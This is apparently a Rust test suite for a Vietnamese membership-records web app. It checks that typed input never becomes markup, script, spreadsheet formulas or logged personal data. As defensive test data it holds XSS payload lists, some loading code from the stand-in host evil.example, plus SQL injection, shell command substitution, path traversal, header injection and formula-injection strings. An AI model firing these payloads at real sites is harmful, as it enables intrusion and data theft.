//! What people type stays text: no markup, no script, no formula, nothing in the log.

use std::sync::{Arc, Mutex};

use axum::http::StatusCode;
use nguon_app::sample::{PASSWORD, PROVINCE, PROVINCE_LOGIN, Position, login};
use nguon_domain::{
    access::{PostState, Role},
    text::tidy,
};

use crate::{
    browser::{Answer, Browser, Site},
    html::Document,
};

/// What breaks out of where a text may stand: of an element, an attribute, a comment, a script, a style, a template.
const BREAKOUTS: [&str; 10] =
    ["", "\">", "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "\u{0}\"><"];

/// What would then run.
const VECTORS: [&str; 20] = [
    "<script>top.ran=1</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=top.ran=1>",
    "<svg onload=top.ran=1>",
    "<svg><script>top.ran=1</script></svg>",
    "<body onload=top.ran=1>",
    "<details open ontoggle=top.ran=1>",
    "<input autofocus onfocus=top.ran=1>",
    "<iframe srcdoc='<script>top.ran=1</script>'>",
    "<iframe src=javascript:top.ran=1>",
    "<object data=javascript:top.ran=1>",
    "<embed src=javascript:top.ran=1>",
    "<a href=javascript:top.ran=1>xem</a>",
    "<form action=javascript:top.ran=1><button>gửi</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<math><mtext><table><mglyph><style><img src onerror=top.ran=1>",
    "{{7*7}}${7*7}<%= 7*7 %>",
];

pub(crate) fn payloads() -> impl Iterator<Item = String> {
    BREAKOUTS.into_iter().flat_map(|breakout| VECTORS.into_iter().map(move |vector| format!("{breakout}{vector}")))
}

/// Whatever a page is made of that our pages are never made of.
pub(crate) fn foreign(document: &Document) -> Vec<String> {
    let mut found = document.faults.clone();
    for element in &document.elements {
        let name = element.name.as_str();
        let never = ["iframe", "object", "embed", "base", "style", "math", "mglyph"];
        if never.contains(&name) {
            found.push(format!("<{name}>"));
        }
        if name == "script" && !element.attribute("src").is_some_and(|src| src.starts_with("/assets/")) {
            found.push("<script> of its own".to_owned());
        }
        // A page may ask to be fetched again, itself and no other.
        let is_again = element.attribute("http-equiv") == Some("refresh")
            && element.attribute("content").is_some_and(|content| content.bytes().all(|byte| byte.is_ascii_digit()));
        if name == "meta" && element.attribute("http-equiv").is_some() && !is_again {
            found.push("<meta http-equiv>".to_owned());
        }
        for (key, value) in &element.attributes {
            let leads = ["href", "src", "action", "formaction", "hx-get"].contains(&key.as_str());
            if key.starts_with("on") || key == "srcdoc" || key == "style" {
                found.push(format!("<{name} {key}>"));
            }
            if leads && !value.starts_with(['/', '#']) {
                found.push(format!("<{name} {key}={value}>"));
            }
            if leads && value.starts_with("//") {
                found.push(format!("<{name} {key}={value}>"));
            }
        }
    }
    found
}

/// What stands somewhere in a page as text or as the value of a field.
pub(crate) fn shows(document: &Document, text: &str) -> bool {
    document
        .elements
        .iter()
        .any(|element| element.text.contains(text) || element.attributes.values().any(|value| value.contains(text)))
}

/// A name that nobody else has.
fn name(number: usize) -> String {
    const PARTS: [&str; 15] =
        ["An", "Bích", "Chi", "Dung", "Giang", "Hà", "Khoa", "Lan", "Mai", "Nga", "Oanh", "Phúc", "Quân", "Sơn", "Tâm"];
    format!("Khúc {} {}", PARTS[number / 15 % 15], PARTS[number % 15])
}

/// Nominates somebody at a unit with these words in every field that takes any.
async fn nominate(browser: &mut Browser, unit: &str, number: usize, words: &str) -> Answer {
    let place = format!("{unit}/nominate");
    let form = browser.get(&place).await.document();
    let hidden = |name| form.field(name).unwrap().to_owned();
    let (csrf, ticket, name) = (hidden("csrf"), hidden("ticket"), name(number));
    let fields = [
        ("csrf", csrf.as_str()),
        ("ticket", &ticket),
        ("name", &name),
        ("born", "1999"),
        ("sex", "female"),
        ("on", "5/10/2020"),
        ("by", words),
        ("occupation", words),
        ("residence", words),
    ];
    browser.post(&place, &fields).await
}

#[tokio::test]
async fn no_text_that_somebody_types_becomes_part_of_a_page() {
    let site = Site::open().await;
    let mut browser = site.signed_in(&login(Role::CellSecretary, PostState::Active)).await;
    let unit = format!("/units/{}", Position::Descendant.unit().unwrap());
    let mut tried = 0;
    for (number, payload) in payloads().enumerate() {
        let shown = tidy(&payload).text;
        let sent = nominate(&mut browser, &unit, number, &payload).await;
        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{payload}: {}", sent.body);
        let query: String = form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        let mut pages = vec![(browser.get(sent.location()).await, true)];
        for place in [
            format!("/find?q={query}"),
            format!("{unit}/people?q={query}"),
            format!("{unit}?from={query}&until={query}"),
            format!("{unit}/units?q={query}"),
            format!("{unit}/compare?q={query}"),
            format!("{unit}/compare?with_from={query}"),
            format!("/session?to={query}"),
            format!("/{query}"),
        ] {
            pages.push((browser.get(&place).await, false));
        }
        for (page, must_show) in pages {
            assert!(!page.status.is_server_error(), "{payload}: {}", page.status);
            let document = page.document();
            assert_eq!(foreign(&document), Vec::<String>::new(), "{payload}: {}", page.body);
            assert!(!must_show || shows(&document, &shown), "{payload} is not shown as typed: {}", page.body);
            tried += 1;
        }
        // A form that comes back brings what was typed, and no more.
        let refused = nominate(&mut browser, &unit, number, &payload).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
        let document = refused.document();
        assert_eq!(foreign(&document), Vec::<String>::new(), "{payload}");
        let kept: String = payload.chars().filter(|letter| *letter != '\u{0}').collect();
        assert!(shows(&document, &payload) || shows(&document, &kept), "{payload} is lost: {}", refused.body);
    }
    assert_eq!(tried, 200 * 9);
}

/// Texts that programs stumble over.
fn odd_texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "undefined",
        "null",
        "NULL",
        "nil",
        "None",
        "true",
        "NaN",
        "-1",
        "1e100",
        "0x0",
        "1/0",
        "1;2",
        "a,b",
        "a\tb",
        "'; drop table person; --",
        "\" or \"\"=\"",
        "1' or '1'='1",
        "%s%s%n",
        "%27",
        "{0}",
        "$(reboot)",
        "`id`",
        "../../etc/passwd",
        "..\\..\\windows",
        "C:\\con",
        "AUX",
        "file:///etc/passwd",
        "\\u0041",
        "_x0041_",
        "&lt;&amp;&#39;",
        "=1+1",
        "+84 912",
        "-2+3",
        "@SUM(A1)",
        "＝1+1",
        "=HYPERLINK(\"//evil.example\")",
        "|cmd",
        "%0d%0aSet-Cookie: a",
        "Đặng Thị Ngọc Ánh",
        "Ðặng",
        "Hòa Hoà",
        "thuở huơ quỳ quì",
        "ƯỜNG Ỵ Ỷ",
        "ṩ ẛ̣",
        "e\u{301}e\u{323}\u{302}",
        "ﬁ ﬂ ½ Ⅷ",
        "İı",
        "ß ẞ",
        "田中さん",
        "사회",
        "מִבְחָן",
        "اختبار",
        "👩‍👩‍👧 🇻🇳",
        "\u{202e}abc\u{202c}",
        "a\u{200b}b",
        "\u{feff}x",
        "x\u{ad}y",
        "\u{1b}[31m",
        "\u{7}\u{8}x",
        "…—“”‘’",
        "¿¡§¶",
        "🏴\u{e0067}\u{e007f}",
        "\\",
        "/",
        "\"",
        "'",
        "#",
        "?",
        "<",
        ">",
        "&",
        "ʻ ʼ",
        "Zalgo t̶̢̛e̸x̵t",
        "\u{fffd}",
        "x\u{a0}y",
        "１２３",
        "Ⅻ",
        "℡",
        "㏂",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    texts.push("dài ".repeat(45));
    texts
}

#[tokio::test]
async fn odd_texts_come_back_as_they_were_typed_on_pages_and_in_files() {
    let site = Site::empty().await;
    let code = site.app.founding_code().await.unwrap().unwrap().to_owned();
    let mut browser = site.browser();
    let csrf = browser.get("/setup").await.document().field("csrf").unwrap().to_owned();
    // Lines that differ in capitals alone would be one unit.
    let mut known = std::collections::BTreeSet::new();
    let names: Vec<String> = odd_texts()
        .iter()
        .map(|text| tidy(&format!("Chi bộ {text}")).text)
        .filter(|name| name != "Chi bộ" && known.insert(name.to_lowercase()))
        .collect();
    assert!(names.len() > 75, "{}", names.len());
    let fields = [
        ("csrf", csrf.as_str()),
        ("code", &code),
        ("name", "Đảng bộ xã '\"<&>"),
        ("kind", "grassroots_committee_org"),
        ("below", &names.join("\n")),
        ("officer", "<b>Khúc</b> =1+1"),
        ("login", "hanh"),
        ("new", PASSWORD),
        ("again", PASSWORD),
    ];
    let done = browser.post("/setup", &fields).await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    let home = browser.get("/").await;
    assert!(shows(&home.document(), "<b>Khúc</b> =1+1"), "{}", home.body);
    let top = {
        let document = home.document();
        let mut links = document.all("a").filter_map(|link| link.attribute("href"));
        links.find(|href| href.ends_with("/nominate")).unwrap().replace("/nominate", "")
    };
    let tree = browser.get(&format!("{top}/units")).await.document();
    for (number, name) in names.iter().enumerate() {
        let link = tree.all("a").find(|link| link.text.trim() == name).unwrap_or_else(|| panic!("{name:?}"));
        let cell = link.attribute("href").unwrap().to_owned();
        let sent = nominate(&mut browser, &cell, number, name).await;
        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{name:?}: {}", sent.body);
        let page = browser.get(sent.location()).await.document();
        assert!(shows(&page, name), "{name:?}");
        let query: String = form_urlencoded::byte_serialize(name.as_bytes()).collect();
        assert_eq!(browser.get(&format!("/find?q={query}")).await.status, StatusCode::OK, "{name:?}");
    }
    let listed = browser.get(&format!("{top}/people?of=everybody")).await;
    assert_eq!(foreign(&listed.document()), Vec::<String>::new());
    let file = browser.get(&format!("{top}/people.csv?of=everybody")).await;
    assert_eq!(file.status, StatusCode::OK);
    let rows = String::from_utf8(file.bytes).unwrap();
    for name in &names {
        let quoted = name.replace('"', "\"\"");
        assert!(rows.contains(&quoted), "{name:?} is not in the file:\n{rows}");
    }
    // Read again by another program, each text is what it was, letter by letter.
    let file = browser.get(&format!("{top}/people.xlsx?of=everybody")).await;
    assert_eq!(file.status, StatusCode::OK);
    let (in_csv, in_xlsx) = (cells_of_csv(&rows), cells_of_xlsx(file.bytes));
    for name in &names {
        assert!(in_csv.contains(name), "{name:?} is another in the CSV");
        assert!(in_xlsx.contains(name), "{name:?} is another in the workbook");
    }
    // No cell of the file begins as a formula does.
    for cell in rows.trim_start_matches('\u{feff}').lines().flat_map(|line| line.split(';')) {
        let begins = cell.trim_start_matches('"').trim_start().chars().next();
        assert!(!begins.is_some_and(|first| "=+@\t\r＝".contains(first)), "{cell}");
    }
    assert_eq!(site.app.check().await.unwrap().problems, [] as [String; 0]);
}

/// Every cell of a CSV as its format says it: parted by semicolons, quoted where needed, quotes doubled.
fn cells_of_csv(text: &str) -> std::collections::BTreeSet<String> {
    let (mut cells, mut cell, mut is_quoted) = (std::collections::BTreeSet::new(), String::new(), false);
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if is_quoted && letters.peek() == Some(&'"') => {
                letters.next();
                cell.push('"');
            }
            '"' if is_quoted || cell.is_empty() => is_quoted = !is_quoted,
            ';' | '\r' | '\n' if !is_quoted => {
                cells.insert(std::mem::take(&mut cell));
            }
            _ => cell.push(letter),
        }
    }
    cells
}

/// Every text of the first sheet of a workbook.
fn cells_of_xlsx(bytes: Vec<u8>) -> std::collections::BTreeSet<String> {
    use calamine::Reader as _;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    sheet
        .used_cells()
        .filter_map(|(_, _, cell)| match cell {
            calamine::Data::String(text) => Some(text.clone()),
            _ => None,
        })
        .collect()
}

/// Keeps what is logged, each field as it would be written.
#[derive(Clone, Default)]
struct Kept(Arc<Mutex<String>>);

impl tracing::Subscriber for Kept {
    fn enabled(&self, _: &tracing::Metadata<'_>) -> bool {
        true
    }

    fn new_span(&self, span: &tracing::span::Attributes<'_>) -> tracing::span::Id {
        span.record(&mut self.clone());
        tracing::span::Id::from_u64(1)
    }

    fn record(&self, _: &tracing::span::Id, values: &tracing::span::Record<'_>) {
        values.record(&mut self.clone());
    }

    fn record_follows_from(&self, _: &tracing::span::Id, _: &tracing::span::Id) {}

    fn event(&self, event: &tracing::Event<'_>) {
        event.record(&mut self.clone());
    }

    fn enter(&self, _: &tracing::span::Id) {}

    fn exit(&self, _: &tracing::span::Id) {}
}

impl tracing::field::Visit for Kept {
    fn record_debug(&mut self, field: &tracing::field::Field, value: &dyn std::fmt::Debug) {
        self.0.lock().unwrap().push_str(&format!("{field}={value:?}\n"));
    }
}

#[tokio::test]
async fn the_log_says_which_route_answered_and_nothing_of_whom_it_was_about() {
    let kept = Kept::default();
    let _guard = tracing::subscriber::set_default(kept.clone());
    let site = Site::open().await;
    let mut browser = site.signed_in(PROVINCE_LOGIN).await;
    let person = Position::Own.person();
    let page = browser.get(&format!("/people/{person}")).await;
    let whose = page.document().only("h1").text.trim().to_owned();
    browser.get("/find?q=Khongai+Timthay").await;
    browser.get(&format!("/units/{PROVINCE}/people?q=Khongai")).await;
    let token = browser.token().await;
    browser.post(&format!("/people/{person}/citizen-id"), &[("csrf", &token)]).await;
    site.browser().sign_in("ai-day", "mat-khau-bi-mat").await;
    let log = kept.0.lock().unwrap().clone();
    for says in ["route=\"/people/{person}\"", "route=\"/find\"", "status=200", "took_us="] {
        assert!(log.contains(says), "{says}: {log}");
    }
    let person = person.to_string();
    for never in [whose.as_str(), person.as_str(), "Khongai", "Timthay", "mat-khau-bi-mat", "ai-day", PASSWORD, "026"] {
        assert!(!log.contains(never), "{never}: {log}");
    }
}
